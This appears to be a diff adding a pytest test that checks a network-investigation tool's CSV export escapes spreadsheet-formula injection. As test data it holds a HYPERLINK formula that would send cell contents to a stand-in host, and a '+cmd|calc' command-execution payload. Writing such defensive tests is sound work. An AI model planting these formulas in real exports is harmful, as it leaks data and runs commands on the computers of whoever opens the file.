@@ -110,3 +110,30 @@ def test_view_neighbourhood_radius():
     assert ids(0) == ["a"] and ids(1) == ["a", "b"] and ids(2) == ["a", "b", "c"]
     with pytest.raises(NetinvError, match="hops must be a whole number of at least 0"):
         neighbourhood(net, a, -1)
+
+
+def test_csv_cells_from_the_data_cannot_run_as_spreadsheet_formulas(tmp_path):
+    import csv
+
+    from netinv.exports import spreadsheet_safe
+
+    from .conftest import write_csv
+
+    evil = '=HYPERLINK("http://x.invalid/?"&A1,"open")'
+    ws = f"embedded:{tmp_path / 'w.duckdb'}"
+    runner = CliRunner()
+    calls = write_csv(tmp_path / "c.csv", "caller,callee,start,duration_s\nA,B,2024-01-01T00:00:00Z,5\n"
+                                          "B,C,2024-01-02T00:00:00Z,5\n")
+    holders = write_csv(tmp_path / "h.csv", f'person_id,name,phone\nP1,"{evil.replace(chr(34), chr(34) * 2)}",A\n'
+                                            'P2,+cmd|calc,B\nP3,-12.5,C\n')
+    for kind, f in (("calls", calls), ("holders", holders)):
+        r = runner.invoke(app, ["load", kind, str(f), "--raw-ids", "--store", ws])
+        assert r.exit_code == 0, r.output
+    r = runner.invoke(app, ["centrality", "--store", ws, "--out", str(tmp_path / "cent.csv")])
+    assert r.exit_code == 0, r.output
+    rows = {row["id"]: row for row in csv.DictReader((tmp_path / "cent.csv").open(encoding="utf-8"))}
+    assert rows["person:P1"]["label"] == "'" + evil
+    assert rows["person:P2"]["label"] == "'+cmd|calc"
+    assert rows["person:P3"]["label"] == "-12.5"  # a number stays a number
+    cells = pd.DataFrame({"v": ["+8613800138000", "@SUM(A1)", "\tx", "-1+1", "plain", None]})
+    assert spreadsheet_safe(cells)["v"].tolist()[:5] == ["+8613800138000", "'@SUM(A1)", "'\tx", "'-1+1", "plain"]
